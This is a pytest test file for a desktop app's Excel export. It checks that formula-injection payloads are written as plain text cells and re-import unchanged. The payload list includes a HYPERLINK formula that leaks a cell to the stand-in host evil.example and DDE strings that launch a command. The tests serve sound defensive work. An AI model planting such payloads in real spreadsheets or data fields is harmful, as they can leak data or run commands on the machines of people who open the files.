"""Text goes out as text: the OWASP CSV-injection payloads are written as string cells (no <f>
element in the sheet XML), read back as the exact text, in the list writer, the error workbook, the
template and the report workbooks; an export of records holding them imports back unchanged."""
from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
import python_calamine as calamine
from openpyxl import Workbook

from dnnd_desktop.exchange.excel import SheetColumn, write_error_workbook, write_table
from dnnd_desktop.exchange.excel.safe_cells import guard_worksheet, is_formula_like

PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    " @SUM(A1:A2)",
    "#N/A",
    "=1",
]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist()
                       if n.startswith("xl/worksheets/sheet"))


def _texts(path: Path) -> list[object]:
    book = calamine.CalamineWorkbook.from_path(str(path))
    try:
        return [v for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()
                for v in row]
    finally:
        book.close()


def _assert_safe(path: Path, payloads: list[str]) -> None:
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml, "a text value was written as a formula"
    assert 't="e"' not in xml, "a text value was written as an error value"
    values = _texts(path)
    for p in payloads:
        assert p in values, f"{p!r} did not come back exactly"


@pytest.mark.parametrize("text,risky", [
    ("=1+1", True), ("+84 912 345 678", True), ("-", True), ("@x", True), ("\tx", True), ("  =x", True),
    ("#N/A", True), ("Bát Xát", False), ("", False), ("1 + 1", False), ("a=b", False), ("#1", False)])
def test_what_counts_as_formula_like(text, risky):
    assert is_formula_like(text) is risky


def test_list_writer_writes_payloads_as_text(tmp_path):
    out = tmp_path / "list.xlsx"
    cols = [SheetColumn("Họ và tên"), SheetColumn("Ghi chú"), SheetColumn("Ngày", "date")]
    rows = [[p, f"ghi chú {i}", p] for i, p in enumerate(PAYLOADS)]
    write_table(out, cols, rows, title_lines=["=TITLE()", "DANH SÁCH"],
                extra_sheets=[("Khác", [SheetColumn("=x")], [[p] for p in PAYLOADS])])
    _assert_safe(out, PAYLOADS + ["=TITLE()", "=x"])
    # Excel keeps them text when the cell is edited: the quote-prefix style is set.
    with zipfile.ZipFile(out) as z:
        assert 'quotePrefix="1"' in z.read("xl/styles.xml").decode()


def test_list_writer_finds_a_payload_anywhere_in_a_row(tmp_path):
    """The writer looks at a row's values once and goes through its text columns only when one
    starts with a suspect: a payload after plain texts, numbers, empty cells, an empty text or a
    harmless text that starts with a space is still written as text, and empty texts as empty cells."""
    out = tmp_path / "wide.xlsx"
    cols = [SheetColumn(f"Cột {i}") for i in range(6)] + [SheetColumn("Năm", "year"), SheetColumn("Ngày", "date")]
    fillers = [["Nguyễn Văn A", "Thôn 3", 1960, None, "Đức", "Lò Thị B"],
               ["", "Thôn 3", None, "", " ghi chú có dấu cách", "x"],
               [" ghi chú có dấu cách", "Nam", 2001, "Hàn Quốc", "", "y"]]
    rows = []
    for payload in PAYLOADS:
        for filler in fillers:
            for at in range(6):
                row = list(filler)
                row[at] = payload
                rows.append(row + [1985, None])
    sent_rows = [list(r) for r in rows]   # (the writer changes the lists it is given)
    write_table(out, cols, rows)
    book = calamine.CalamineWorkbook.from_path(str(out))
    read = book.get_sheet_by_index(0).to_python()[1:]
    assert len(read) == len(rows)
    for got, sent in zip(read, sent_rows, strict=True):
        assert got[:6] == [v if v is not None else "" for v in sent[:6]]
    assert "<f>" not in _sheet_xml(out)
    # Empty texts are empty cells (no inline string element), as None is.
    assert "<is><t></t></is>" not in _sheet_xml(out) and "<t/>" not in _sheet_xml(out)


def test_error_workbook_writes_payloads_as_text(tmp_path):
    out = tmp_path / "errors.xlsx"
    write_error_workbook(out, ["Họ và tên", "=Ghi chú"], ["text", "text"],
                         [(i + 3, [p, p], "Năm sinh: Năm không hợp lệ") for i, p in enumerate(PAYLOADS)])
    _assert_safe(out, PAYLOADS + ["=Ghi chú"])


def test_normal_mode_sheets_are_guarded(tmp_path):
    wb = Workbook()
    for p in PAYLOADS:
        wb.active.append([p, 1, None])
    guard_worksheet(wb.active)
    out = tmp_path / "normal.xlsx"
    wb.save(out)
    _assert_safe(out, PAYLOADS)


def test_export_of_records_holding_payloads_imports_back_unchanged(ctx, tmp_path):
    from dnnd_desktop.services.excel import export_list, import_excel
    from dnnd_desktop.services.records import RecordService

    svc = RecordService(ctx)
    names = ["=HYPERLINK(\"http://x\",\"y\")", "+1+1 Hội", "-2+3 Hội", "@SUM(1+1) Hội"]
    for n in names:
        svc.create("partner", {"name": n, "kind": "friendship_assoc", "country": "LA",
                               "notes": "=cmd|' /C calc'!A0"})
    out = tmp_path / "doi-tac.xlsx"
    export_list(ctx, "partners", out)
    _assert_safe(out, [*names, "=cmd|' /C calc'!A0"])
    result, preview = import_excel(ctx, "partners", out)   # same office: every row is already there
    assert result.invalid == 0 and result.imported == 0 and result.duplicates == len(names), preview.reasons
    assert not re.search(r"<f[ >]", _sheet_xml(out))
